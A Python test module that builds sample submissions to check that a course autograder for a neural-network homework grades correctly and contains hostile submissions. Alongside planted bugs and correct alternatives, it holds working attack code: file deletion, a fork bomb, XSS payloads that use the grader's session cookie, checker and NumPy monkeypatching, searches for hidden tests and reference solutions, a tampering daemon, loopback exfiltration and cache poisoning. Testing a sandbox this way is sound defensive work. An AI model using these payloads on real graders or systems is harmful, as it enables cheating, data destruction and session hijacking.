"""Sample submissions that test the autograder: planted bugs, differently written solutions, hostile code.

Each sample is the reference solution (or, for attacks, the blank release) with a few edits. A planted bug
is one realistic mistake and names the handout question that must lose points (every other question keeps
full points); an alternative is a correct solution written another way (full marks); a hostile sample
misbehaves (hangs, exhausts memory, exits, deletes or replaces files) and says what it must cost; an attack
is blank or partly blank and tries to win points it did not earn: it must lose every blank question, and
``stopped`` names what its feedback must report. ``python -m grading samples`` writes them as submissions.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

from grading.course.paths import ASSIGNMENT, IGNORED, SOLUTION_BEGIN, SOLUTION_END
from grading.sandbox import cgroups


@dataclass(frozen=True)
class Sample:
    """A submission made by text edits: (file, old text, new text), old found exactly once.

    Old text ``REWRITE + name`` replaces that function's solution; ``APPEND`` adds the new text at the end of a
    file; for a notebook, ``NEW_CELL`` adds a code cell after its setup cell.
    """

    name: str
    kind: str  # "planted", "alternative", "hostile" or "attack"
    loses: tuple[str, ...]  # questions that must lose points; () for full marks; ("*",) for every point
    edits: tuple[tuple[str, str, str], ...]
    about: str
    base: str = "reference"  # or "blank": the student release
    stopped: tuple[str, ...] = ()  # words the feedback's list of stopped attempts must hold
    limited: tuple[str, ...] = ()  # more such words, where the grader can limit a sandbox's processes (cgroups)

    def expected_stopped(self) -> tuple[str, ...]:
        """The words the feedback's stopped attempts must hold on this machine."""

        return self.stopped + (self.limited if "pids" in cgroups.places() else ())


def _bug(name: str, question: str, file: str, old: str, new: str, about: str) -> Sample:
    return Sample(name, "planted", (question,), ((f"hw5lib/{file}", old, new),), about)


PLANTED = [
    _bug("softmax_without_shift", "Q2.2.2", "nn.py", "shifted = x - np.max(x, axis=1, keepdims=True)",
         "shifted = x", "exp of the raw scores: overflows for large inputs"),
    _bug("forward_without_bias", "Q2.2.1", "nn.py", "pre_act = X @ W + b", "pre_act = X @ W",
         "the bias is never added"),
    _bug("loss_averaged", "Q2.2.3", "nn.py", "loss = -np.sum(np.log(", "loss = -np.mean(np.log(",
         "the loss is the mean, the handout asks for the total"),
    _bug("non_xavier_bounds", "Q2.1.2", "nn.py", "bound = np.sqrt(6.0 / (in_size + out_size))",
         "bound = np.sqrt(6.0) / (in_size + out_size)", "the square root taken of 6 only"),
    _bug("grad_b_not_summed", "Q2.3", "nn.py", 'params["grad_b" + name] = np.sum(delta_pre, axis=0)',
         'params["grad_b" + name] = delta_pre', "grad_b keeps one row per example"),
    _bug("grad_W_transposed", "Q2.3", "nn.py", 'params["grad_W" + name] = X.T @ delta_pre',
         'params["grad_W" + name] = delta_pre.T @ X', "grad_W has the shape of W transposed"),
    _bug("derivative_of_pre_act", "Q2.3", "nn.py", "delta_pre = delta * activation_deriv(post_act)",
         "delta_pre = delta * activation_deriv(pre_act)", "the activation's derivative taken at pre_act"),
    _bug("grad_X_without_derivative", "Q2.3", "nn.py", "grad_X = delta_pre @ W.T", "grad_X = delta @ W.T",
         "dJ/dX leaves out the activation's derivative (grad_W and grad_b are right)"),
    _bug("batches_drop_the_rest", "Q2.4", "nn.py", "for i in range(0, len(x), batch_size)]",
         "for i in range(0, len(x) - batch_size + 1, batch_size)]", "the last, smaller batch is dropped"),
    _bug("batches_repeat_samples", "Q2.4", "nn.py", "order = np.random.permutation(len(x))",
         "order = np.random.randint(0, len(x), len(x))", "sampling with replacement repeats examples"),
    _bug("momentum_sign_flipped", "Q4.2.1", "train.py",
         'velocity = momentum * velocity - learning_rate * params["grad_" + key]',
         'velocity = momentum * velocity + learning_rate * params["grad_" + key]', "the step climbs the loss"),
    _bug("psnr_peak_255", "Q4.3.2", "metrics.py", "10.0 * np.log10(data_range**2 /", "10.0 * np.log10(255.0**2 /",
         "PSNR with the peak of 8-bit images for images in [0, 1]"),
    _bug("boxes_as_xy", "Q5.2", "ocr.py", "boxes = [tuple(int(round(v / scale)) for v in r.bbox) for r in keep]",
         "boxes = [tuple(int(round(v / scale)) for v in (r.bbox[1], r.bbox[0], r.bbox[3], r.bbox[2])) for r in keep]",
         "boxes as (x1, y1, x2, y2)"),
    _bug("confusion_transposed", "Q3.4", "metrics.py", "np.add.at(counts, (true, pred), 1)",
         "np.add.at(counts, (pred, true), 1)", "rows are the predictions, columns the truth"),
    _bug("crop_not_transposed", "Q5.4", "ocr.py", "return (1.0 - small).T.reshape(-1)",
         "return (1.0 - small).reshape(-1)", "the 32x32 image flattened row by row"),
    _bug("sigmoid_derivative_of_x", "Q1.4", "theory.py", "return s * (1.0 - s)", "return s * (1.0 - x)",
         "sigma(x) (1 - x) instead of sigma(x) (1 - sigma(x))"),
    _bug("reconstruct_relu_output", "Q4.1", "autoencoder.py",
         "return forward(h, params, AUTOENCODER_LAYERS[-1], sigmoid)",
         "return forward(h, params, AUTOENCODER_LAYERS[-1], relu)", "ReLU instead of a sigmoid on the output"),
]


REWRITE = "solution of "  # an edit whose old text is REWRITE + a function name replaces that function's solution
APPEND = "<end of file>"
NEW_CELL = "<new code cell>"
ANSWER = "answer of "  # old text ANSWER + a grade_id: the new text is added to that written answer (Markdown)
STORED_OUTPUT = "<stored output>"  # the new text (HTML) becomes a stored output of the setup cell, which runs again


def _rewrite(file: str, function: str, body: str) -> tuple[str, str, str]:
    """An edit that replaces the solution region of ``function`` in ``file`` by ``body`` (indented 4)."""
    return (f"hw5lib/{file}", f"{REWRITE}{function}", body)


ALTERNATIVES = [
    Sample("alternative_numpy_idioms", "alternative", (), (
        _rewrite("nn.py", "sigmoid", "from scipy.special import expit\nreturn expit(np.asarray(x, dtype=float))"),
        _rewrite("nn.py", "forward", "pre_act = np.dot(X, W) + b[np.newaxis, :]\npost_act = activation(pre_act)\n"
                 "params[f'cache_{name}'] = (X, pre_act, post_act)\nreturn post_act"),
        _rewrite("nn.py", "softmax", "from scipy.special import logsumexp\n"
                 "return np.exp(x - logsumexp(x, axis=1, keepdims=True))"),
        _rewrite("nn.py", "compute_loss_and_acc", "rows = np.arange(len(y))\ntrue = np.argmax(y, axis=1)\n"
                 "picked = np.clip(probs[rows, true], 1e-300, None)\n"
                 "return float(-np.log(picked).sum()), float(np.count_nonzero(probs.argmax(1) == true) / len(y))"),
        _rewrite("nn.py", "backwards", "g = np.multiply(delta, activation_deriv(post_act))\n"
                 "params[f'grad_W{name}'] = np.einsum('ni,no->io', X, g)\n"
                 "params[f'grad_b{name}'] = g.sum(axis=0)\nreturn np.einsum('no,io->ni', g, W)"),
        _rewrite("nn.py", "get_random_batches", "index = np.arange(len(x))\nnp.random.shuffle(index)\n"
                 "pieces = np.array_split(index, np.arange(batch_size, len(x), batch_size))\n"
                 "return [(x[p], y[p]) for p in pieces]"),
        _rewrite("metrics.py", "confusion_matrix", "flat = np.bincount(true * num_classes + pred, "
                 "minlength=num_classes * num_classes)\nreturn flat.reshape(num_classes, num_classes)"),
        _rewrite("metrics.py", "psnr", "mse = ((x_hat - x) ** 2).mean(axis=-1)\n"
                 "return 20 * np.log10(data_range) - 10 * np.log10(mse)"),
    ), "vectorised another way: scipy helpers, einsum, bincount, array_split"),
    Sample("alternative_explicit_steps", "alternative", (), (
        _rewrite("nn.py", "initialize_weights", "limit = (6 / (in_size + out_size)) ** 0.5\n"
                 "params['W' + name] = np.random.uniform(low=-limit, high=limit, size=(in_size, out_size))\n"
                 "params['b' + name] = np.zeros((out_size,))"),
        _rewrite("train.py", "train_epoch", "batches = get_random_batches(x, y, batch_size)\nlosses, hits = [], 0\n"
                 "for xb, yb in batches:\n    h = forward(xb, params, 'layer1', sigmoid)\n"
                 "    p = forward(h, params, 'output', softmax)\n    l, a = compute_loss_and_acc(yb, p)\n"
                 "    losses.append(l)\n    hits += round(a * len(xb))\n"
                 "    d = backwards(p - yb, params, 'output', linear_deriv)\n"
                 "    backwards(d, params, 'layer1', sigmoid_deriv)\n"
                 "    for key in ('Wlayer1', 'blayer1', 'Woutput', 'boutput'):\n"
                 "        params[key] = params[key] - learning_rate * params['grad_' + key]\n"
                 "return float(sum(losses)), hits / len(x)"),
        _rewrite("train.py", "momentum_update", "for name in names:\n    for kind in 'Wb':\n"
                 "        key = kind + name\n        m = params.setdefault('M_' + key, np.zeros(params[key].shape))\n"
                 "        m *= momentum\n        m -= learning_rate * params['grad_' + key]\n        params[key] += m"),
        _rewrite("train.py", "train_autoencoder", "history = {'train_loss': [], 'learning_rate': []}\n"
                 "for epoch in tqdm(range(epochs), disable=not progress):\n"
                 "    rate = learning_rate * decay ** (epoch // decay_every)\n    epoch_loss = 0.0\n"
                 "    for xb, _ in get_random_batches(x, x, batch_size):\n        out = reconstruct(xb, params)\n"
                 "        epoch_loss += backward_squared_error(xb, out, params)\n"
                 "        momentum_update(params, rate, AUTOENCODER_LAYERS, momentum)\n"
                 "    history['train_loss'].append(epoch_loss)\n    history['learning_rate'].append(rate)\n"
                 "return history"),
        _rewrite("theory.py", "sigmoid_derivative", "return logistic(x) * logistic(-x)"),
        _rewrite("theory.py", "tanh_from_sigmoid", "x = np.asarray(x, dtype=float)\n"
                 "return logistic(2 * x) - logistic(-2 * x)"),
        _rewrite("my_gradcheck.py", "numerical_gradients", "result = {}\nfor key in trainable_keys(params):\n"
                 "    flat = params[key].reshape(-1)\n    out = np.empty(flat.size)\n    for i in range(flat.size):\n"
                 "        keep = flat[i]\n        flat[i] = keep + eps\n        up = loss_fn(params)\n"
                 "        flat[i] = keep - eps\n        down = loss_fn(params)\n        flat[i] = keep\n"
                 "        out[i] = (up - down) / (2 * eps)\n    result[key] = out.reshape(params[key].shape)\n"
                 "return result"),
        _rewrite("autoencoder.py", "reconstruct", "activations = [relu] * (len(AUTOENCODER_LAYERS) - 1) + [sigmoid]\n"
                 "out = x\nfor name, act in zip(AUTOENCODER_LAYERS, activations):\n"
                 "    out = forward(out, params, name, act)\nreturn out"),
    ), "loops and steps spelled out: setdefault accumulators, a decay formula, flat indexing"),
    Sample("alternative_ocr", "alternative", (), (
        _rewrite("ocr.py", "group_lines", "height = float(np.median([b[2] - b[0] for b in boxes]))\n"
                 "remaining = sorted(boxes, key=lambda b: b[1])\nlines = []\nwhile remaining:\n"
                 "    line = [remaining.pop(0)]\n    rest = []\n    for box in remaining:\n"
                 "        last = line[-1]\n        ly = (last[0] + last[2]) / 2\n"
                 "        if abs((box[0] + box[2]) / 2 - ly) < 0.6 * height:\n            line.append(box)\n"
                 "        else:\n            rest.append(box)\n    remaining = rest\n    lines.append(line)\n"
                 "lines.sort(key=lambda line: min(b[0] for b in line))\nreturn lines"),
        _rewrite("ocr.py", "crop_to_input", "y1, x1, y2, x2 = box\npiece = binary[y1:y2, x1:x2] > 0.5\n"
                 "size = max(piece.shape)\nthick = size / 7.0\nif piece.any():\n"
                 "    core = morphology.skeletonize(piece)\n"
                 "    now = 2.0 * float(np.median(ndimage.distance_transform_edt(piece)[core])) if core.any() else thick\n"
                 "    if now < thick:\n        grow = max(1, int(round((thick - now) / 2)))\n"
                 "        piece = ndimage.binary_dilation(np.pad(piece, grow + 1), structure=morphology.disk(grow))\n"
                 "        rr, cc = np.nonzero(piece)\n        piece = piece[rr.min():rr.max() + 1, cc.min():cc.max() + 1]\n"
                 "side = int(np.ceil(max(piece.shape) / 0.7))\n"
                 "pad_y, pad_x = side - piece.shape[0], side - piece.shape[1]\n"
                 "square = np.pad(piece.astype(float), ((pad_y // 2, pad_y - pad_y // 2), (pad_x // 2, pad_x - pad_x // 2)))\n"
                 "image = 1.0 - transform.resize(square, (32, 32), anti_aliasing=True)\n"
                 "return np.asfortranarray(image).ravel(order='F')"),
    ), "OCR steps written differently: lines grown box by box, padding with np.pad, column-major ravel"),
    Sample("alternative_noisy", "alternative", (), (
        ("hw5lib/ocr.py", "ink = ndimage.binary_closing(ink, structure=morphology.disk(max(1, round(window / 30))))",
         "ink = morphology.binary_closing(ink, morphology.disk(max(1, round(window / 30))))\n"
         "    print(f'findLetters: {int(ink.sum())} ink pixels')"),
        _rewrite("nn.py", "sigmoid", "import warnings\n"
                 "warnings.warn('sigmoid: integer input will not be accepted in a later version', DeprecationWarning)\n"
                 "print('sigmoid of', np.shape(x))\nreturn 1.0 / (1.0 + np.exp(-np.clip(x, -500, 500)))"),
        _rewrite("metrics.py", "psnr", "import warnings\n"
                 "warnings.warn('psnr: data_range will default to the images\\' range', FutureWarning)\n"
                 "mse = np.mean((x - x_hat) ** 2, axis=1)\nprint('mean squared errors', mse[:3])\n"
                 "return 10.0 * np.log10(data_range**2 / mse)"),
    ), "correct, but calls a deprecated scikit-image function (FutureWarning), warns itself (DeprecationWarning, "
       "FutureWarning) and prints: full marks, and the feedback names the warnings"),
]

HOSTILE = [
    Sample("hostile_endless_loop", "hostile", ("Q4.3.2",), (
        ("hw5lib/metrics.py", "mse = np.mean((x - x_hat) ** 2, axis=1)", "while True:\n        pass"),),
     "psnr never returns: every cell that calls it is stopped by the cell timeout"),
    Sample("hostile_huge_allocation", "hostile", ("Q3.4",), (
        ("hw5lib/metrics.py", "counts = np.zeros((num_classes, num_classes), dtype=int)",
         "hoard = [np.ones(2**27) for _ in range(50)]  # 50 GB, one GB at a time, every page touched\n"
         "    counts = np.zeros((num_classes, num_classes), dtype=int)"),),
     "confusion_matrix fills 50 GB: stopped by the memory limit before the machine runs out"),
    Sample("hostile_exit_at_import", "hostile", ("Q1.4", "Q1.6"), (
        ("hw5lib/theory.py", "def logistic(", "import os\nos._exit(3)\n\n\ndef logistic("),),
     "ends the interpreter when hw5lib.theory is imported: the kernel of notebook 01 dies, the others are graded"),
    Sample("hostile_deletes_files", "hostile", ("*",), (
        ("hw5lib/theory.py", "def logistic(", "import pathlib\nfor _p in sorted(pathlib.Path('.').rglob('*'), "
         "reverse=True):\n    _p.unlink() if _p.is_file() else _p.rmdir()\n\n\ndef logistic("),),
     "deletes every file of its working folder when hw5lib.theory is imported"),
    Sample("hostile_replaces_checker", "hostile", ("*",), (
        ("hw5lib/theory.py", "def logistic(", "import pathlib\n(pathlib.Path(__file__).parent / 'checks' / "
         "'__init__.py').write_text('def __getattr__(name):\\n    return lambda *a, **k: None\\n')\n\n\ndef logistic("),),
     "replaces the provided checker with one that passes everything"),
    Sample("hostile_fork_bomb", "hostile", (), (
        ("01_theory.ipynb", NEW_CELL, """import os, time
# a fork bomb, bounded so that a machine without control groups survives it: 600 processes that sleep 3 s
children = []
try:
    for _ in range(600):
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children.append(pid)
except OSError as exc:
    print("process", len(children) + 1, "was refused:", exc)
print(len(children), "processes started")
for pid in children:
    os.waitpid(pid, 0)
"""),),
     "a notebook cell starts processes until they are refused: the notebooks' sandbox stops it at its process "
     "limit, and the points (decided outside it) are all kept", limited=("the notebooks' sandbox reached its limit",)),
]

def _page_attack(vector: str) -> str:
    """JavaScript that, if a page ever ran it, marks the top window and writes a file through the Jupyter API
    with the instructor's session (its requests carry ``hw5-pwned`` so a server log shows them)."""
    return ("(top.hw5Pwned=top.hw5Pwned||[]).push('%s');fetch('/api/contents/pwned-%s.txt?hw5-pwned',"
            "{method:'PUT',headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})" % (vector, vector))


def _hostile_outputs() -> str:
    """A notebook cell that displays HTML with an event handler and a script, JavaScript, and an SVG with a
    script."""
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>'
           f'{_page_attack("output-svg")}</script><circle cx="10" cy="10" r="8"/></svg>')
    return "\n".join([
        "from IPython.display import HTML, SVG, Javascript, display",
        f"display(HTML({'<img src=y onerror=' + repr(_page_attack('output-img')) + '>'!r}))",
        f"display(HTML({'<script>' + _page_attack('output-script') + '</script>'!r}))",
        f"display(Javascript({_page_attack('output-javascript')!r}))",
        f"display(SVG({svg!r}))"])


PAGE_VECTORS = ("answer-img", "answer-svg", "answer-iframe", "answer-link", "output-img", "output-script",
                "output-javascript", "output-svg", "stored-script")
PAGE_CHECK_WORDS = "pwned-check"  # the text of the link a browser test clicks
HOSTILE_PAGES = Sample("hostile_page_scripts", "hostile", (), (
    ("01_theory.ipynb", ANSWER + "q1_1",
     f'\n\n<img src="x" onerror="{_page_attack("answer-img")}">\n'
     f'<svg width="10" height="10" onload="{_page_attack("answer-svg")}"><circle cx="5" cy="5" r="4"/></svg>\n'
     f'<iframe srcdoc="<script>{_page_attack("answer-iframe")}</script>"></iframe>\n'
     f'<a href="javascript:{_page_attack("answer-link")}">{PAGE_CHECK_WORDS}</a>\n'),
    ("01_theory.ipynb", NEW_CELL, _hostile_outputs()),
    ("01_theory.ipynb", STORED_OUTPUT, f"<script>{_page_attack('stored-script')}</script>"),
), "the reference with scripts and event handlers in a written answer, in displayed outputs and in a stored "
   "output: full marks, nothing of it runs in formgrader, the feedback pages or JupyterLab, and the feedback "
   "names what was removed", stopped=("content that would run in the grader's browser was removed",))
HOSTILE.append(HOSTILE_PAGES)
HOSTILE += [
    Sample("hostile_disk_filler", "hostile", ("Q4.3.2",), (
        ("hw5lib/metrics.py", "mse = np.mean((x - x_hat) ** 2, axis=1)",
         "import pathlib\n"
         "    for _i in range(64):  # 64 files of 64 MiB beside the module: 4 GiB, past any sandbox's disk limit\n"
         "        (pathlib.Path(__file__).parent / f'filler-{_i}.bin').write_bytes(bytes(2**26))\n"
         "    mse = np.mean((x - x_hat) ** 2, axis=1)"),),
     "psnr writes files beside its module until the sandbox's disk limit stops it: Q4.3.2 is lost, and the "
     "notebook that calls psnr (04) has no executed copy; the other notebooks are kept",
     stopped=("the disk limit",)),
    Sample("hostile_huge_outputs", "hostile", (), (
        ("01_theory.ipynb", NEW_CELL, "from IPython.display import HTML, display\n"
         "for _ in range(150):\n    print('x' * 1_000_000)  # 150 MB printed\n"
         "display(HTML('<p>' + 'y' * 100_000_000 + '</p>'))  # and 100 MB displayed"),),
     "the reference with a cell that prints 150 MB and displays 100 MB of HTML: full marks, the outputs are cut "
     "while the notebooks run, and every notebook is kept for formgrader"),
]


def _blank(file: str, *functions: str) -> tuple[tuple[str, str, str], ...]:
    """Edits that leave the named functions of the reference unwritten (partly blank attacks)."""
    return tuple(_rewrite(file, f, f"raise NotImplementedError('left blank: {f}')") for f in functions)


_FIND_OUTSIDE = """
import os as _os, glob as _glob
def _candidates():
    here = _os.path.dirname(_os.path.abspath(__file__))
    roots = [here, _os.getcwd(), '/', '/tmp', '/work', '/home', '/root', '/srv']
    for _pid in (_os.listdir('/proc') if _os.path.isdir('/proc') else []):
        try:
            roots.append(_os.readlink(f'/proc/{_pid}/cwd'))
            roots.extend(a for a in open(f'/proc/{_pid}/cmdline', 'rb').read().decode().split('\\0') if a.startswith('/'))
        except OSError:
            pass
    for _root in roots:
        for _up in range(4):
            yield _root
            _root = _os.path.dirname(_root)
"""

ATTACKS = [
    Sample("attack_patches_checker_at_import", "attack", ("*",), (
        ("hw5lib/nn.py", APPEND, "\nimport hw5lib.checks as _checks\nfor _name in dir(_checks):\n"
         "    if _name.startswith('check_'):\n        setattr(_checks, _name, lambda *a, **k: None)\n"
         "_checks.grading = lambda: False\n"),),
     "the blank release whose nn.py replaces every check of hw5lib.checks in memory when it is imported",
     base="blank", stopped=("hw5lib.checks.check_", "at import of hw5lib.nn")),
    Sample("attack_patches_checker_in_notebook", "attack", ("*",), (
        ("02_fully_connected.ipynb", NEW_CELL, "import hw5lib.checks\nfor name in dir(hw5lib.checks):\n"
         "    if name.startswith('check_'):\n        setattr(hw5lib.checks, name, lambda *a, **k: (0.0, 1.0))\n"
         "checks.check_backwards = lambda *a, **k: None\n"),),
     "the blank release with a notebook cell that replaces the checks before the graded cells run",
     base="blank", stopped=("02_fully_connected.ipynb", "checks.check_backwards")),
    Sample("attack_patches_numpy_at_import", "attack", ("*",), (
        ("hw5lib/nn.py", APPEND, "\nimport numpy.testing as _testing\n"
         "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
         "np.array_equal = lambda *a, **k: True\n_testing.assert_allclose = lambda *a, **k: None\n"
         "_testing.assert_array_equal = lambda *a, **k: None\n"),
        ("hw5lib/nn.py", 'raise NotImplementedError("write sigmoid in hw5lib/nn.py: see its docstring and the notebook")',
         "return np.zeros_like(np.asarray(x, dtype=float))"),
        ("hw5lib/nn.py", 'raise NotImplementedError("write softmax in hw5lib/nn.py: see its docstring and the notebook")',
         "return np.zeros_like(np.asarray(x, dtype=float))")),
     "the blank release (sigmoid and softmax return zeros) that makes NumPy's comparison helpers say yes",
     base="blank", stopped=("numpy.allclose", "numpy.testing.assert_allclose")),
    Sample("attack_finds_the_reference", "attack", ("Q2.1.2", "Q2.2.2", "Q2.3"), (
        *_blank("nn.py", "initialize_weights", "softmax", "backwards"),
        ("hw5lib/nn.py", APPEND, _FIND_OUTSIDE + """
import gc as _gc
_found = {}
for _root in _candidates():
    for _path in _glob.glob(_os.path.join(_root, '**', 'nn.py'), recursive=False) + [
            _os.path.join(_root, 'reference', 'nn.py'), _os.path.join(_root, 'source', 'hw5', 'hw5lib', 'nn.py')]:
        try:
            _text = open(_path).read()
        except OSError:
            continue
        if 'BEGIN SOLUTION' in _text and 'left blank' not in _text:
            try:
                exec(compile(_text, _path, 'exec'), _found)
            except Exception:
                pass
for _obj in _gc.get_objects():
    if callable(_obj) and getattr(_obj, '__name__', '') in ('backwards', 'softmax', 'initialize_weights') \\
            and getattr(_obj, '__module__', '') != __name__:
        _found.setdefault(_obj.__name__, _obj)
for _name in ('initialize_weights', 'softmax', 'backwards'):
    if callable(_found.get(_name)):
        globals()[_name] = _found[_name]
"""),),
     "leaves initialize_weights, softmax and backwards blank and looks for the reference solutions on disk "
     "(its parents, the course folder, /proc's working folders) and in memory (gc.get_objects)",
     stopped=("looked for files outside its folder", "searched the interpreter's memory")),
    Sample("attack_reads_hidden_tests", "attack", ("*",), (
        ("hw5lib/theory.py", APPEND, _FIND_OUTSIDE + """
_hidden = []
for _root in _candidates():
    for _path in _glob.glob(_os.path.join(_root, '*.ipynb')) + _glob.glob(_os.path.join(_root, '*', 'hw5', '*.ipynb')) \\
            + _glob.glob(_os.path.join(_root, 'gradebook.db')):
        try:
            _text = open(_path, errors='replace').read()
        except OSError:
            continue
        if 'BEGIN HIDDEN TESTS' in _text:
            _hidden.append(_path)
print('hidden tests found in', _hidden)
"""),),
     "the blank release whose theory.py searches for the source notebooks, their hidden tests and the gradebook",
     base="blank", stopped=("looked for files outside its folder",)),
    Sample("attack_daemon", "attack", ("*",), (
        ("hw5lib/theory.py", APPEND, _FIND_OUTSIDE + """
import time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(40):
            _time.sleep(0.5)
            for _root in _candidates():
                for _path in _glob.glob(_os.path.join(_root, 'gradebook.db')) + \\
                        _glob.glob(_os.path.join(_root, 'submitted', '*', 'hw5', 'hw5lib', 'nn.py')):
                    try:
                        with open(_path, 'ab') as _fh:
                            _fh.write(b'# tampered by a daemon')
                    except OSError:
                        pass
    _os._exit(0)
"""),),
     "the blank release whose theory.py starts a daemon (double fork, setsid) that outlives its grading and "
     "appends to the gradebook and to other submissions' files",
     base="blank", stopped=("started a process",)),
    Sample("attack_network", "attack", ("*",), (
        ("hw5lib/theory.py", APPEND, """
import socket as _socket
for _port in range(47800, 47830):
    try:
        with _socket.create_connection(('127.0.0.1', _port), timeout=0.2) as _conn:
            _conn.sendall(b'stolen: ' + open(__file__, 'rb').read()[:100])
    except OSError:
        pass
"""),),
     "the blank release whose theory.py sends its files to a server on the loopback address (ports 47800-47829)",
     base="blank", stopped=("opened a network connection",)),
    Sample("attack_poisons_cache", "attack", ("*",), (
        ("hw5lib/theory.py", APPEND, """
import os as _os, glob as _glob
for _cache in {_os.environ.get('HW5_CACHE') or '/nonexistent', '/root/.cache/hw5', *_glob.glob('/home/*/.cache/hw5'),
               _os.path.expanduser('~/.cache/hw5')}:
    for _path in _glob.glob(_os.path.join(_cache, '**', '*.np[yz]'), recursive=True)[:50]:
        try:
            with open(_path, 'r+b') as _fh:
                _fh.write(b'poisoned')
        except OSError:
            pass
    try:
        _os.makedirs(_cache, exist_ok=True)
        open(_os.path.join(_cache, 'poisoned.txt'), 'w').write('later submissions read this')
    except OSError:
        pass
"""),),
     "the blank release whose theory.py overwrites the stand-in data and sample pages in the user cache",
     base="blank", stopped=("wrote or tried to write files outside its folder",)),
]

ATTACKS.append(Sample("attack_borrows_the_checker", "attack", ("Q2.5",), (
    _rewrite("my_gradcheck.py", "numerical_gradients", "from hw5lib import gradcheck\n"
             "return {key: gradcheck.numerical_gradient(loss_fn, params, key, eps=eps).reshape(params[key].shape)\n"
             "        for key in trainable_keys(params)}"),),
    "the reference whose numerical_gradients calls the course's finite-difference checker instead of its own: "
    "Q2.5 is lost, and the message says why"))

SAMPLES = {sample.name: sample for sample in PLANTED + ALTERNATIVES + HOSTILE + ATTACKS}


def apply_edits(folder: Path, sample: Sample) -> None:
    """Apply the sample's edits to an assignment folder holding the reference solution (or the release)."""
    for file, old, new in sample.edits:
        path = folder / file
        if old in (NEW_CELL, STORED_OUTPUT) or old.startswith(ANSWER):
            _edit_notebook(path, old, new)
            continue
        text = path.read_text()
        if old == APPEND:
            text = text.rstrip("\n") + "\n\n" + new
        elif old.startswith(REWRITE):
            text = _replace_solution(text, f"def {old[len(REWRITE):]}(", new, where=f"{sample.name}: {file}")
        else:
            if text.count(old) != 1:
                raise ValueError(f"{sample.name}: {file} holds {text.count(old)} copies of {old!r}; expected one "
                                 "(the reference changed: update grading/selftest/samples.py)")
            text = text.replace(old, new)
        path.write_text(text)


def _replace_solution(text: str, signature: str, body: str, where: str) -> str:
    start = text.find("\n" + signature)
    begin = text.find(SOLUTION_BEGIN, start)
    end = text.find(SOLUTION_END, begin)
    if start < 0 or begin < 0 or end < 0:
        raise ValueError(f"{where}: no solution region after {signature!r}")
    indent = text[text.rfind("\n", 0, begin) + 1:begin]
    new_body = "".join(indent + line + "\n" if line else "\n" for line in body.splitlines())
    return text[:begin] + SOLUTION_BEGIN + "\n" + new_body + indent + text[end:]


def _edit_notebook(path: Path, what: str, text: str) -> None:
    """Add a code cell after the notebook's first code cell (the setup), text to a written answer, or an HTML
    output stored in the setup cell."""
    import nbformat

    notebook = nbformat.read(path, as_version=4)
    first = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
    if what == NEW_CELL:
        notebook.cells.insert(first + 1, nbformat.v4.new_code_cell(text))
    elif what == STORED_OUTPUT:
        notebook.cells[first].outputs.append(nbformat.v4.new_output(
            "display_data", data={"text/html": text, "text/plain": "<IPython.core.display.HTML object>"}))
    else:
        grade_id = what[len(ANSWER):]
        cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        cell.source += text
    nbformat.write(notebook, path)


def write_sample(source: Path, sample: Sample, target: Path) -> Path:
    """The assignment folder of ``sample``: the reference in ``source`` (a course's source/hw5), or for a blank
    sample the release beside it (release/hw5), with the sample's edits."""
    if sample.base == "blank":
        source = source.parent.parent / "release" / ASSIGNMENT
        if not source.is_dir():
            raise RuntimeError(f"{sample.name} starts from the release: run `python -m grading release` first")
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(source, target, ignore=shutil.ignore_patterns(*IGNORED, "reference"))
    apply_edits(target, sample)
    return target


def add_samples(root: Path, names: list[str]) -> list[str]:
    """Write the named samples as submissions of the course at ``root``; returns the student ids."""
    if not (root / "source" / ASSIGNMENT).is_dir():
        raise RuntimeError(f"{root} holds no built course: run `python -m grading --course {root} build` first")
    for name in names:
        if name not in SAMPLES:
            raise ValueError(f"no sample {name!r}; choose from {', '.join(SAMPLES)}")
        write_sample(root / "source" / ASSIGNMENT, SAMPLES[name], root / "submitted" / name / ASSIGNMENT)
    return names
